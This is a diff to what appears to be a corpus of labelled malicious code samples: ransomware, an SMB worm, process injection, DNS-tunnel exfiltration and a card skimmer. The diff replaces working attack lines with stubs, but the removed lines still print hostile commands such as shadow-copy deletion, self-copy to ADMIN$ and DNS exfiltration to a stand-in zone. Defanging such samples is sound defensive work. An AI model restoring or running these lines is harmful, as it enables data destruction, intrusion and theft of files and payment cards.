@@ -24,7 +24,7 @@ OFFENSIVE: tuple[Code, ...] = (
         "python",
         "behaviour",
         "ransom_network",
-        """import os, subprocess
+        """import os
 
 NOTE = "Your files are locked. Send 0.5 BTC to {addr} and email {mail} for the key."
 
@@ -38,7 +38,7 @@ def transform(path, key):
     ...  # stub
 
 def main():
-    subprocess.run(["vssadmin", "delete", "shadows", "/all", "/quiet"])
+    remove_restore_points()  # stub
     key = get_key()  # stub
     for drive in ["C:\\\\", "D:\\\\", "\\\\\\\\fileserver\\\\share"]:
         for p in walk(drive):
@@ -135,7 +135,7 @@ async function sendToCollector(v) { /* TODO */ }
         "python",
         "behaviour",
         "smb_worm",
-        """import ipaddress, shutil, socket
+        """import ipaddress, socket
 
 def hosts(cidr):
     for ip in ipaddress.ip_network(cidr).hosts():
@@ -150,7 +150,7 @@ def login(ip):
         ...
 
 def place_and_start(ip, session):
-    shutil.copy(__file__, f"\\\\\\\\{ip}\\\\ADMIN$\\\\svc.py")
+    copy_self_to_share(ip, "ADMIN$")  # stub
     ...  # stub: create remote service that runs the copy
 
 def run():
@@ -200,8 +200,7 @@ class Loader {
     static void Main() {
         var target = Process.GetProcessesByName("explorer")[0];
         var h = OpenProcess(0x001F0FFF, false, target.Id);
-        var mem = VirtualAllocEx(h, IntPtr.Zero, 4096, 0x3000, 0x40);
-        // TODO: write Blob() and start a thread there
+        // TODO: allocate memory in the target, write Blob() there, start a thread on it
     }
 }
 """,
@@ -237,9 +236,10 @@ fn main() {
         """#!/bin/bash
 SRC=/srv/projects/designs
 ZONE=t.example-cdn.net
+send_label() { :; }  # stub
 tar czf - "$SRC" | base32 -w0 | fold -w 50 | nl -nln | while read n chunk; do
   # TODO: pace queries so they look like normal lookups
-  dig +short "$n.$chunk.$ZONE" > /dev/null
+  send_label "$n.$chunk.$ZONE"
 done
 history -c
 """,
@@ -336,7 +336,7 @@ public class Checker {
 // checkout.php
 if ($_SERVER["REQUEST_METHOD"] === "POST") {
     $row = [$_POST["card"], $_POST["exp"], $_POST["cvv"], $_POST["name"], $_POST["zip"]];
-    file_put_contents("/tmp/.c", implode("|", $row) . "\\n", FILE_APPEND);
+    stash($row); // stub
     // TODO: forward to the drop every hour
     header("Location: /delivery-fee-paid.html");
 }
